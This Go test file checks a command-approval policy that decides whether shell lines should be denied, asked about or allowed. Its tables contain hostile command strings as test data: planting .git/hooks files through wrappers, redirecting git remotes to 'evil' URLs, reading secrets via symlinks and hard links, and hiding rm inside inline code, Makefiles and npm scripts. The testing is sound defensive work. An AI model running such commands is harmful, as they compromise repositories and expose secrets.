package policy

import (
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
)

// The second pass on issue 15: each hole is closed by a principle, and
// each table tries the spellings an attacker would try next.

func writeFiles(t *testing.T, root string, files map[string]string) {
	t.Helper()
	for name, body := range files {
		p := filepath.Join(root, filepath.FromSlash(name))
		mustDo(t, os.MkdirAll(filepath.Dir(p), 0o755))
		mustDo(t, os.WriteFile(p, []byte(body), 0o755))
	}
}

// TestSearchesFollowWhatTheProgramFollows: class 3. A recursive reader
// that dereferences symlinks (grep -R, rg -L, ag -f, diff -r) is walked
// through the links it follows, so a link to .env, or to a folder
// holding one, asks; a link out of the workspace is a read outside it,
// for the programs that list names too (find -L, ls -RL, tree -l).
func TestSearchesFollowWhatTheProgramFollows(t *testing.T) {
	e := newEnv(t)
	writeFiles(t, e.root, map[string]string{"docs/a.md": "x\n", "clean/a.md": "x\n", "names/a.md": "x\n", "loop/a.md": "x\n"})
	mustDo(t, os.Symlink("../.env", filepath.Join(e.root, "docs", "settings.txt")))
	mustDo(t, os.Symlink("..", filepath.Join(e.root, "loop", "up")))
	mustDo(t, os.Symlink(e.outside, filepath.Join(e.root, "names", "o")))
	runVerdicts(t, e, "", []verdictCase{
		{"grep -R KEY docs", "QQA"},
		{"grep --dereference-recursive KEY docs", "QQA"},
		{"grep --derefer KEY docs", "QQA"},
		{"grep -r KEY docs", "AAA"}, // -r passes over links it meets
		{"rg -L KEY docs", "QQA"},
		{"rg --follow KEY docs", "QQA"},
		{"rg --fol KEY docs", "QQA"},
		{"rg KEY docs", "AAA"},
		{"ag -f KEY docs", "QQA"},
		{"ag --follow KEY docs", "QQA"},
		{"diff -r docs clean", "QQA"}, // diff follows links
		{"grep -R KEY loop", "QQA"},   // loop/up leads back to the root, which holds .env
		{"grep -R KEY clean", "AAA"},
		{"grep -R KEY names", "QQA"}, // names/o leads out of the workspace
		{"find -L names -name x", "QQA"},
		{"find names -follow -name x", "QQA"},
		{"find names -name x", "AAA"},
		{"ls -RL names", "QQA"},
		{"ls -R names", "AAA"},
		{"ls -L names", "AAA"},
		{"tree -l names", "QQA"},
		{"tree names", "AAA"},
		{"du -L names", "QQA"},
		{"du -sh names", "AAA"},
		{"fd -L x names", "QQA"},
		{"find -L clean -name x", "AAA"},
	})
}

// TestInnerLinesAreJudgedLikeTheLine: class 4, the policy side. What a
// shell string, eval, a here-document, a wrapper, find -exec or xargs
// runs is judged with every rule, as if typed: its redirects are
// writes, its arguments may name .git/hooks. A target a file-placing
// program (cp, mv, ln, install, rsync, tee, dd) gets at run time could
// be .git/hooks, as a redirect to a computed path could, so it asks in
// every mode.
func TestInnerLinesAreJudgedLikeTheLine(t *testing.T) {
	e := newEnv(t)
	runVerdicts(t, e, "", []verdictCase{
		{"sh -c 'cat evil > .git/hooks/pre-commit'", "DQQ"},
		{"bash -c 'cp evil .git/hooks/pre-commit'", "DQQ"},
		{"bash -lc 'cd .git/hooks && cp ../../evil pre-commit'", "DQQ"},
		{"eval 'echo x >> .git/config'", "DQQ"},
		{"sh <<'EOF'\ncp evil .git/hooks/pre-commit\nEOF", "DQQ"},
		{"bash <<< 'tee .git/hooks/pre-push < evil'", "DQQ"},
		{"env -S 'cp evil .git/hooks/pre-commit'", "DQQ"},
		{"timeout 5 sh -c 'tee .git/config < evil'", "DQQ"},
		{"nohup sh -c 'ln -s ../../evil .git/hooks/pre-commit'", "DQQ"},
		{"trap 'cp evil .git/hooks/pre-commit' EXIT", "DQQ"},
		{"sh -c 'echo x > ~/.bashrc'", "DQQ"}, // outside the workspace, as typed
		{"echo .git/hooks/pre-commit | xargs cp evil", "DQQ"},
		{"echo .git/hooks | xargs -I{} cp evil {}/pre-commit", "DQQ"},
		{"echo .git/config | xargs tee -a < evil", "DQQ"},
		{"find . -name evil -exec cp {} .git/hooks/pre-commit \\;", "DQQ"},
		{"find .git -name hooks -exec cp evil {} \\;", "DQQ"},
		{"find . -name '*.go' -exec cp {} build/ \\;", "DQa"}, // {} is a source; build/ is known
		{"X=.git/hooks/pre-commit; cp evil \"$X\"", "DQQ"},
		{"cp evil \"$DEST\"", "DQQ"},
		{"cp \"$SRC\" build/", "DQQ"}, // $SRC could be -t .git/hooks
		{"dd if=evil \"of=$X\"", "DQQ"},
		{"mv a.txt b.txt", "DQa"},
		{"ls | xargs rm", "DQa"},
		{"bash -c 'go test ./...'", "DQa"},
		{"sh -c 'ls'", "DQa"},
	})
}

// TestGitConfigWritersAsk: git subcommands that write .git/config ask in
// every mode where what they write runs a program or points the user's
// later fetches and pushes at a place the user has not chosen; the rest
// (branch -u, submodule add, worktree add) are documented as harmless.
func TestGitConfigWritersAsk(t *testing.T) {
	e := newEnv(t)
	mustDo(t, os.WriteFile(filepath.Join(e.root, ".git", "config"), []byte("[core]\n[remote \"origin\"]\n\turl = https://example.com/r.git\n"), 0o644))
	runVerdicts(t, e, "", []verdictCase{
		{"git remote add upstream https://git.example.com/evil.git", "DQQ"},
		{"git remote -v add upstream https://git.example.com/evil.git", "DQQ"},
		{"git remote set-url origin https://git.example.com/evil.git", "DQQ"},
		{"git remote set-url --push origin https://git.example.com/evil.git", "DQQ"},
		{"git -C . remote add x ../evil", "DQQ"},
		{"git config remote.origin.url https://git.example.com/evil.git", "DQQ"},
		{"git config remote.origin.pushurl https://git.example.com/evil.git", "DQQ"},
		{"git config remote.pushDefault evil", "DQQ"},
		{"git config url.https://evil/.insteadOf https://example.com/", "DQQ"},
		{"git config branch.main.remote https://git.example.com/evil.git", "DQQ"},
		{"git config branch.main.remote origin", "DQa"},
		{"git push -u https://git.example.com/evil.git main", "DQQ"},
		{"git push --set-upstream ../evil main", "DQQ"},
		{"git push -fu ../evil main", "DQQ"},
		{"git fetch --set-upstream https://git.example.com/evil.git main", "DQQ"},
		{"git push -u origin main", "DQa"},
		{"git init --separate-git-dir=gd", "DQQ"},
		{"git init --separate-git-dir gd", "DQQ"},
		{"git lfs install", "DQQ"},
		{"git maintenance start", "DQQ"},
		{"git --no-pager config core.hooksPath x", "DQQ"},
		{"git --frobnicate config core.hooksPath x", "DQQ"}, // an option a newer git may know
		{"git --frobnicate -c core.hooksPath=x commit", "DQQ"},
		{"git -C . -c color.ui=never config alias.x '!sh evil'", "DQQ"},
		{"git remote rename origin old", "DQa"},
		{"git remote remove origin", "DQa"},
		{"git branch -u origin/main", "DQa"},
		{"git branch --set-upstream-to=origin/main", "DQa"},
		{"git submodule add https://example.com/lib.git lib", "DQa"},
		{"git submodule update --init", "DQa"},
		{"git worktree add ../wt", "DQa"},
		{"git init", "DQa"},
		{"git remote -v", "AAA"},
	})
}

// TestDenyPathRulesReachEveryRead: class 6a. A deny path rule holds for
// what a command reads without naming it: recursive searches, git's
// tracked files, glob matches, names in git's trees; where the files
// cannot be listed (git's history, a computed argument) the line asks,
// and with no one to ask it is refused.
func TestDenyPathRulesReachEveryRead(t *testing.T) {
	if _, err := exec.LookPath("git"); err != nil {
		t.Skip("no git")
	}
	e := newEnv(t)
	writeFiles(t, e.root, map[string]string{"secrets/db.txt": "PASS\n", "docs/a.md": "x\n", "deep/secrets/x.txt": "PASS\n"})
	mustDo(t, os.Symlink("../secrets", filepath.Join(e.root, "docs", "s")))
	gitRepo(t, e.root, "src/a.go", "README.md", "secrets/db.txt", "docs/a.md")
	const rules = "deny:\n  - path: secrets/**\n"
	runVerdicts(t, e, rules, []verdictCase{
		{"cat secrets/db.txt", "DDD"},
		{"cat secret?/*", "DDD"},
		{"cat */db.txt", "DDD"},
		{"head -n1 s*/d*", "DDD"},
		{"grep -r PASS .", "DDD"},
		{"grep -rl PASS", "DDD"},
		{"rg PASS", "DDD"},
		{"grep -R PASS docs", "DDD"}, // docs/s leads to secrets
		{"grep -r PASS docs", "AAA"}, // -r does not follow it
		{"diff -r docs secrets", "DDD"},
		{"git grep PASS", "DDD"},
		{"git grep -n PASS -- docs", "AAA"},
		{"git show HEAD:secrets/db.txt", "DDD"},
		{"git log -p", "DDD"}, // git's history cannot be listed: a path computed at run time
		{"git log -p -- src/a.go", "AAA"},
		{"git show --stat", "AAA"},
		{"git archive HEAD", "DQQ"},
		{"cat \"$F\"", "DDD"}, // a computed path may be any, as before
		{"cp \"$F\" /tmp/x", "DQQ"},
		{"grep -r PASS docs src", "AAA"},
		{"cat docs/a.md", "AAA"},
		{"grep -rn x src", "AAA"},
	})
	// A rule naming absolute paths holds for a search of a folder above
	// them.
	runVerdicts(t, e, "deny:\n  - path: \"~/.ssh/**\"\n", []verdictCase{
		{"grep -r x " + e.home, "QQQ"},
		{"grep -r x src", "AAA"},
	})
}

// TestGitOwnOptionsDoNotHideTheSubcommand: class 6b. git's own options
// are taken off before rules are matched, and aliases are expanded.
func TestGitOwnOptionsDoNotHideTheSubcommand(t *testing.T) {
	e := newEnv(t)
	mustDo(t, os.WriteFile(filepath.Join(e.root, ".git", "config"), []byte("[alias]\n\tci = commit -v\n\tst = status\n"), 0o644))
	runVerdicts(t, e, "deny:\n  - command: \"git commit *\"\n", []verdictCase{
		{"git commit -m x", "DDD"},
		{"git -C . commit -m x", "DDD"},
		{"git -c user.name=x commit -m x", "DDD"},
		{"git --no-pager commit -m x", "DDD"},
		{"git -P commit -m x", "DDD"},
		{"git --git-dir=.git --work-tree=. commit -m x", "DDD"},
		{"git --git-dir .git commit -m x", "DDD"},
		{"git --namespace=x commit", "DDD"},
		{"git --exec-path=/usr/lib/git-core commit", "DDD"},
		{"git --no-optional-locks --literal-pathspecs commit", "DDD"},
		{"git -c alias.c=commit c -m x", "DDD"},
		{"git -c alias.c='commit -q' c -m x", "DDD"},
		{"git ci -m x", "DDD"}, // an alias in .git/config
		{"git --frobnicate commit", "DQQ"},
		{"git st", "DQa"},
		{"git status", "AAA"},
		{"git -C src log", "AAA"},
	})
	runVerdicts(t, e, "deny:\n  - command: \"rm *\"\n", []verdictCase{
		{"git rebase -x 'rm x' HEAD~2", "DDD"},
		{"git rebase --exec='rm x' HEAD~2", "DDD"},
		{"git bisect run rm x", "DDD"},
		{"git submodule foreach --recursive rm x", "DDD"},
		{"git difftool -x 'rm x'", "DDD"},
		{"git -c alias.t='!rm x' t", "DDD"},
		{"git rebase -i HEAD~2", "DQa"},
	})
}

// TestCodeGodwitCannotParse: class 6c. Inline code of other languages
// that mentions a denied program asks; shell scripts, package.json
// scripts and Makefile recipes are read and judged; a program run by
// its path is matched as what it is.
func TestCodeGodwitCannotParse(t *testing.T) {
	e := newEnv(t)
	writeFiles(t, e.root, map[string]string{
		"tidy.py":          "import os\nos.system('rm victim.txt')\n",
		"ok.py":            "print('hello')\n",
		"clean.sh":         "#!/bin/sh\nrm -f victim.txt\n",
		"noshebang.sh":     "rm -f victim.txt\n",
		"build.sh":         "#!/bin/sh\necho building\n",
		"lib.sh":           "tidy() { rm \"$@\"; }\n",
		"uselib.sh":        "#!/bin/bash\nsource ./lib.sh\ntidy victim.txt\n",
		"runner.sh":        "#!/bin/sh\n\"$RUNNER\" victim.txt\n",
		"tool.py":          "#!/usr/bin/env python3\nimport subprocess\nsubprocess.run(['rm', 'victim.txt'])\n",
		"Makefile":         "GO ?= go\nCLEAN = rm -f\n\nall: test\n\ntest:\n\t@$(GO) test ./...\n\nclean:\n\t-rm victim.txt\n\nwipe:\n\t$(CLEAN) victim.txt\n\nlint: ; $(RM) lint.out\n",
		"sub/Makefile":     "clean:\n\t$(RM) x\n",
		"cond/Makefile":    "x:\nifeq ($(A),1)\n\techo one\nelse\n\trm y\nendif\n",
		"shellmk/Makefile": "FILES := $(shell rm -f victim.txt)\nall:\n\techo hi\n",
		"package.json":     `{"scripts": {"clean": "rm -rf dist", "test": "node t.js", "build": "tsc"}}`,
	})
	mustDo(t, os.Symlink("/bin/rm", filepath.Join(e.root, "del")))
	if rm, err := exec.LookPath("rm"); err == nil {
		b, err := os.ReadFile(rm)
		mustDo(t, err)
		mustDo(t, os.WriteFile(filepath.Join(e.root, "rmcopy"), b, 0o755))
	}
	outside := filepath.Join(e.outside, "x.sh")
	mustDo(t, os.WriteFile(outside, []byte("echo hi\n"), 0o644))
	runVerdicts(t, e, "deny:\n  - command: \"rm *\"\n", []verdictCase{
		// Inline code.
		{"awk 'BEGIN { system(\"rm victim.txt\") }'", "DQQ"},
		{"gawk 'BEGIN{system(\"rm x\")}'", "DQQ"},
		{"python3 -c 'import os; os.system(\"rm x\")'", "DQQ"},
		{"/usr/bin/python3 -c 'import os; os.system(\"rm x\")'", "DQQ"},
		{"python3.12 -c 'import shutil' -c 'os.system(\"/bin/rm x\")'", "DQQ"},
		{"perl -e 'system(\"rm\", \"x\")'", "DQQ"},
		{"node -e 'require(\"child_process\").execSync(\"rm x\")'", "DQQ"},
		{"ruby -e '`rm x`'", "DQQ"},
		{"php -r 'exec(\"rm x\");'", "DQQ"},
		{"sed 'e rm x' README.md", "DQQ"},
		{"env python3 -c 'import os; os.system(\"rm x\")'", "DQQ"},
		{"python3 -c \"$CODE\"", "DQQ"},
		// The name assembled as the code runs: code that can start
		// programs asks where command rules exist.
		{"python3 -c 'import os; os.system(\"r\" + \"m x\")'", "DQQ"},
		{"python3 -c \"getattr(__import__('o'+'s'), 'sys'+'tem')('r'+'m x')\"", "DQQ"},
		{"awk 'BEGIN { c = \"r\" \"m x\"; system(c) }'", "DQQ"},
		{"awk 'BEGIN { print \"x\" | \"sh\" }'", "DQQ"},
		{"perl -e '`r\\x6d x`'", "DQQ"},
		{"node -e 'require(\"child\" + \"_process\").execSync(\"r\" + \"m x\")'", "DQQ"},
		{"python3 tidy.py", "DQQ"},
		{"python3 -u tidy.py", "DQQ"},
		{"./tool.py", "DQQ"},
		{"python3 ok.py", "DQa"},
		{"python3 -c 'print(1)'", "DQa"},
		{"awk '{print $1}' README.md", "DQa"},
		{"sed -n 1p README.md", "DQa"},
		{"python3 -c 'print(\"format rm.txt\")'", "DQa"}, // rm.txt is not rm
		// Shell scripts, read.
		{"sh clean.sh", "DDD"},
		{"bash -x clean.sh", "DDD"},
		{"source clean.sh", "DDD"},
		{". ./clean.sh", "DDD"},
		{"./clean.sh", "DDD"},
		{"./noshebang.sh", "DDD"},
		{"./uselib.sh", "DDD"},
		{"source lib.sh && tidy victim.txt", "DDD"},
		{"sh build.sh", "DQa"},
		{"./build.sh", "DQa"},
		{"./runner.sh", "DQQ"}, // its program is named by a variable
		{"echo 'rm victim.txt' > tidy.sh && sh tidy.sh", "DQQ"},
		{"cp clean.sh t.sh; sh t.sh", "DQQ"},
		{"sh missing.sh", "DQQ"},
		{"sh " + outside, "DQQ"},
		// A program by path is what it is.
		{"./del victim.txt", "DDD"},
		{"./rmcopy victim.txt", "DDD"},
		{"ln -s /bin/rm d2 && ./d2 victim.txt", "DQQ"},
		// make, npm.
		{"make clean", "DDD"},
		{"make -s clean", "DDD"},
		{"make wipe", "DDD"},
		{"make lint", "DDD"},
		{"make -C sub clean", "DDD"},
		{"make -C cond", "DDD"},
		{"make -C shellmk", "DDD"},
		{"make --eval='x: ; rm y' x", "DDD"},
		{"make", "DQa"},
		{"make test", "DQa"},
		{"make test GO=rm", "DDD"},
		{"echo 'clean:' > Makefile && make clean", "DQQ"},
		{"npm run clean", "DDD"},
		{"yarn clean", "DDD"},
		{"pnpm run clean", "DDD"},
		{"npm run build", "DQa"},
		{"npm test", "DQa"},
		// The project's own code is not followed (see the package doc).
		{"go test ./...", "DQa"},
		{"cargo run", "DQa"},
	})
}

// TestLinkedGitDirIsProtected: where .git is a file (a worktree, a
// submodule, git init --separate-git-dir), the git folder it points to
// is protected as .git is, wherever it lies.
func TestLinkedGitDirIsProtected(t *testing.T) {
	e := newEnv(t)
	mustDo(t, os.RemoveAll(filepath.Join(e.root, ".git")))
	writeFiles(t, e.root, map[string]string{"gd/config": "[core]\n", "gd/hooks/pre-commit.sample": "x", ".git": "gitdir: gd\n"})
	runVerdicts(t, e, "", []verdictCase{
		{"cp evil gd/hooks/pre-commit", "DQQ"},
		{"echo x >> gd/config", "DQQ"},
		{"cp evil gd/description", "DQa"},
		{"echo 'gitdir: other' > .git", "DQQ"},
	})
}

// TestUnknownRunnersAsk: a program godwit does not know that is given a
// denied program's name may run it (an unknown wrapper): it asks.
func TestUnknownRunnersAsk(t *testing.T) {
	e := newEnv(t)
	runVerdicts(t, e, "deny:\n  - command: \"rm *\"\n", []verdictCase{
		{"parallel rm ::: victim.txt", "DQQ"},
		{"docker run --rm -v .:/w alpine rm /w/victim.txt", "DQQ"},
		{"ssh host 'rm -rf x'", "DQQ"},
		{"nix-shell --run 'rm x'", "DQQ"},
		{"ifne /bin/rm x", "DQQ"},
		{"git rm x", "DQa"},
		{"man rm", "DQa"},
		{"mytool build", "DQa"},
		{"echo rm", "AAA"},
	})
	runVerdicts(t, e, "", []verdictCase{{"parallel rm ::: victim.txt", "DQa"}})
}

// FuzzMakefile: any Makefile text is read without a panic or a hang.
func FuzzMakefile(f *testing.F) {
	for _, s := range []string{"all: a\n\ta:\n\trm x\n", "X := $(shell rm y)\n$(X): $(Y)\n\t$(call F,1)\n", "define F\n\trm\nendef\n",
		"a:: ; b\n%.o: %.c\n\t$(CC) -c $<\n", "x = $(x)\ny: $(x)\n\t$(x)\n", "include $(", "$(shell $(shell"} {
		f.Add(s)
	}
	p := &Policy{root: f.TempDir(), rules: Rules{Deny: []Rule{{Command: "rm *"}}}}
	f.Fuzz(func(t *testing.T, text string) {
		u := &unwrapper{p: p}
		m := &makefile{u: u, dir: p.root, vars: map[string][]string{}}
		m.parse(text, 0)
		for _, r := range m.selected([]string{"all", "$(X)"}) {
			for _, l := range r.recipe {
				_ = m.expand(l, 0, nil)
			}
		}
		_ = u.scriptText(SimpleCommand{Dir: p.root}, text, "fuzz", "", 0)
	})
}

// TestMakeExpansionIsBounded: variables that double at each level do not
// hang the approval; the command asks.
func TestMakeExpansionIsBounded(t *testing.T) {
	e := newEnv(t)
	writeFiles(t, e.root, map[string]string{"Makefile": "a = $(b)$(b)$(b)$(b)$(b)$(b)$(b)$(b)\nb = $(c)$(c)$(c)$(c)$(c)$(c)$(c)$(c)\n" +
		"c = $(d)$(d)$(d)$(d)$(d)$(d)$(d)$(d)\nd = $(e)$(e)$(e)$(e)$(e)$(e)$(e)$(e)\ne = $(f)$(f)$(f)$(f)$(f)$(f)$(f)$(f)\nf = x\n" +
		"all:\n\techo $(a)\n"})
	runVerdicts(t, e, "deny:\n  - command: \"rm *\"\n", []verdictCase{{"make", "DQQ"}})
}

// TestScriptReadsAreBounded: scripts that source each other many times
// over do not hang the approval; the command asks.
func TestScriptReadsAreBounded(t *testing.T) {
	e := newEnv(t)
	files := map[string]string{}
	for _, n := range []string{"a", "b", "c", "d"} {
		next := map[string]string{"a": "b", "b": "c", "c": "d", "d": "e"}[n]
		files[n+".sh"] = strings.Repeat(". ./"+next+".sh\n./"+next+".sh\n", 200)
	}
	files["e.sh"] = "echo hi\n"
	writeFiles(t, e.root, files)
	runVerdicts(t, e, "deny:\n  - command: \"rm *\"\n", []verdictCase{{"sh a.sh", "DQQ"}})
}

// TestHardLinkedReadsAsk: a workspace file with another name may be a
// secret outside the workspace by that name; reading it asks as an
// outside read does, and so does a search of its folder.
func TestHardLinkedReadsAsk(t *testing.T) {
	e := newEnv(t)
	writeFiles(t, e.root, map[string]string{"docs/a.md": "x\n"})
	if err := os.Link(filepath.Join(e.outside, "secret.txt"), filepath.Join(e.root, "docs", "notes.txt")); err != nil {
		t.Skip("no hard links here:", err)
	}
	runVerdicts(t, e, "", []verdictCase{
		{"cat docs/notes.txt", "QQA"},
		{"cat docs/*", "QQA"},
		{"grep -r x docs", "QQA"},
		{"cat docs/a.md", "AAA"},
	})
	rec := &recorder{answer: Answer{Choice: No}}
	if o, _ := outcome(t, e.policy(t, ReadOnly, "", rec), rec, pathReq("file_read", filepath.Join(e.root, "docs", "notes.txt"), false)); o != "Q" {
		t.Errorf("file_read of a hard link: %s, want it asked", o)
	}
}
